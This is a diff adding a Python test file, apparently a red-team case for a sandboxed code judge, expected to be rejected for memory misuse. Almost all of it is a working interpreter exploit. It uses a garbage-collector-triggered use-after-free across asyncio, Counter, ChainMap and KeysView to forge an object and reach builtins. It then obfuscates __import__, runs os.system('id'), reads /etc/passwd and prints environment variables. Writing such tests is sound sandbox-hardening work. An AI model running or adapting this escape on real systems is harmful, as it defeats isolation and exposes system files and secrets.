@@ -1,0 +1,81 @@
+# expect: reject memory
+# line: 35
+# why: round 101b (red team): an allocation in judged code runs the collector, which finalizes an asyncio Future whose exception holds a Counter; its repr sorts views that size a ChainMap
+import asyncio
+import collections
+import collections.abc
+
+vl = []
+KEEP = []
+H = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+def g():
+    return 0
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
+        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]
+
+
+def wipe(x):
+    vl.clear()
+    return x
+
+
+CA = collections.ChainMap(map(wipe, [1]))
+
+
+class KV(collections.abc.KeysView):
+    def __hash__(self):
+        return 1
+
+
+CT = collections.Counter({"a": KV(CA), "b": KV(CA)})
+
+
+async def main():
+    f = asyncio.Future()
+    f.set_exception(ValueError(CT))
+    H.append(f)
+
+
+asyncio.run(main())
+C = [H.pop()]
+C.append(C)
+C = None
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        n = [[0] for i in range(3000)]
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        return o
+
+
+vl.append(V())
+w = W()
+got = vl < [w]
+KEEP.append(bytearray(FAKE))
+bt = got[1]
+imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(bt["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
